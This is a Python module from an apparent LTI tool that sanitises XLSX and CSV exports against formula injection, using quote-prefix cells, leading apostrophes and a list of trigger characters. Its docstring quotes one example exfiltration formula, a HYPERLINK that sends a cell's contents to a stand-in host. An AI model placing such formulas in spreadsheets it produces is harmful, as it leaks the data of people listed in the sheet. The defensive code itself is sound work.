"""Spreadsheet files that stay data: every XLSX and CSV the tool writes goes through
here, because names, titles, places and remarks come from LMS claims, HR rosters and
trainers' forms, and a spreadsheet program runs a cell that looks like a formula
(``=HYPERLINK("http://x/?leak="&A1,"Click")`` sends the sheet's contents away).

- XLSX: text is always a string cell (openpyxl infers a formula from a leading ``=``;
  here it never does), written with Excel's *quote prefix* style when it looks like a
  formula, so Excel shows it as text and keeps it text when someone edits the cell.
  The value itself is unchanged: the sheet holds the person's real name.
- CSV has no cell types: text that looks like a formula gets a leading apostrophe,
  as OWASP's CSV-injection advice says (Excel and LibreOffice show it as text).

"Looks like a formula": it starts with ``= + - @``, a tab or a carriage return, also
after leading spaces (LibreOffice's CSV import can trim them, and then the rest is a
formula), or with the full-width forms ``＝ ＋ － ＠`` that a Chinese input method
types (a cheap precaution). A plain number written as text (``-5``, ``+3.5``) is no
formula and is left alone; real numbers and dates are written as numbers and dates.

The ``defusedcsv`` package was looked at: it covers CSV only, wraps text in
apostrophes on both sides and rewrites ``|``, and misses tab and CR, so the few lines
below are our own.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from lti_tool import numbers

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
MIME_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MIME_CSV = "text/csv; charset=utf-8"


def looks_like_formula(text: str) -> bool:
    if not text or _PLAIN_NUMBER.fullmatch(text.strip()):
        return False
    return text.startswith(TRIGGERS) or text.lstrip(" \u3000").startswith(TRIGGERS)


def csv_field(value) -> str | int | float:
    """One CSV field: numbers as they are, anything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, datetime):
        value = value.strftime("%Y-%m-%d %H:%M")
    elif isinstance(value, date):
        value = value.isoformat()
    text = str(value)
    return "'" + text if looks_like_formula(text) else text


def csv_bytes(header: Iterable, rows: Iterable[Iterable]) -> bytes:
    """A whole CSV file: UTF-8 with a BOM (Excel then opens Chinese text correctly)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_field(v) for v in header])
    writer.writerows([csv_field(v) for v in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def cell(sheet: Worksheet, value) -> Cell:
    """One XLSX cell for ``append``: text is a string cell (never a formula), numbers
    and dates are real ones. Characters XML cannot hold (control characters a hostile
    name may carry) are dropped rather than failing the export."""
    made = Cell(sheet)
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        made.value = value
        if isinstance(value, (float, Decimal)):  # exact, shown as pages show it (numbers.shown)
            made.number_format = numbers.xlsx_format(value)
    elif isinstance(value, (datetime, date)):
        if isinstance(value, datetime) and value.tzinfo is not None:
            raise ValueError("give local times: XLSX has no time zones")
        made.value = value
        made.number_format = DATETIME_FORMAT if isinstance(value, datetime) else DATE_FORMAT
    else:
        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
        made.value = text
        made.data_type = "s"  # openpyxl set "f" for a leading "="
        if looks_like_formula(text):
            made.quotePrefix = True
    return made


def append(sheet: Worksheet, values: Iterable) -> None:
    """``sheet.append`` with every value made a safe cell."""
    sheet.append([cell(sheet, v) for v in values])


def local(value: datetime | None, zone: str, *, day: bool = False) -> datetime | date | None:
    """An aware time as the wall-clock time (or day) of ``zone``, for an XLSX cell."""
    if value is None:
        return None
    wall = value.astimezone(ZoneInfo(zone)).replace(tzinfo=None)
    return wall.date() if day else wall


def xlsx_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
